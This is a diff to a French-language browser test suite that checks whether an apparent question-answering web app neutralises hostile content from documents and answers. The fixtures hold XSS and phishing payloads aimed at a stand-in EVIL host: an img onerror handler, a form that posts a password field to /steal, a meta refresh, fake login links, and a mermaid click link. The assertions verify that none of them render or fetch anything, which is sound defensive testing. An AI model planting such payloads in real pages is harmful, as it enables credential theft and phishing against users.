@@ -20,6 +20,10 @@ HOSTILE_PAGE = f"""<!doctype html><html><head>
 <p>Le partenariat hospitalier entre Dakar et Bordeaux a été signé en 2021 et forme chaque année 12 sages-femmes.</p>
 <p><img src="https://{EVIL}/doc.png" onerror="window.pwned='img'"> Texte &lt;script&gt;window.pwned='texte'&lt;/script&gt;
 ![](https://{EVIL}/markdown.png) &lt;form action=https://{EVIL}&gt;&lt;input name=p&gt;&lt;/form&gt;</p>
+<p>Le partenariat hospitalier se poursuit : inscrivez-vous sur https://{EVIL}/login ou www.phishing.example/compte.</p>
+<pre>```mermaid
+graph TD; A[Le partenariat hospitalier] --> B; click A "https://{EVIL}/clic"
+```</pre>
 </body></html>"""
 HOSTILE_ANSWER = (
     "Le partenariat hospitalier entre Dakar et Bordeaux a été signé en 2021 [1].\n\n"
@@ -28,6 +32,7 @@ HOSTILE_ANSWER = (
     f'<form action="https://{EVIL}/steal"><input name=motdepasse></form> '
     f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/"> '
     f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">cliquez</div>'
+    f" Connectez-vous sur https://{EVIL}/login ou www.phishing.example.\n\n```mermaid\ngraph TD; A-->B; click A \"https://{EVIL}/\"\n```"
 )
 HOSTILE_QUESTION = "Quand le partenariat hospitalier entre Dakar et Bordeaux a-t-il été signé ?"
 
@@ -162,6 +167,9 @@ def test_hostile_document_answer_and_title_run_nothing_and_fetch_nothing(
     page.wait_for_timeout(1000)
     assert page.evaluate("() => window.pwned") is None, "no script ran"
     assert page.locator("img[src*='evil'], form[action*='evil'], meta[http-equiv]").count() == 0
+    links = page.locator("a[href*='evil'], a[href*='phishing']")
+    assert links.count() == 0, "bare addresses of documents and answers are text, not links"
+    assert page.locator(".mermaid, svg[id*='mermaid'], pre.mermaid").count() == 0, "no diagram drawn from a fence"
     assert session.outside == [], f"nothing fetched outside: {session.outside}"
     assert session.dialogs == []
     page.screenshot(path=str(artifacts / "hostile-content.png"), full_page=True, animations="disabled")
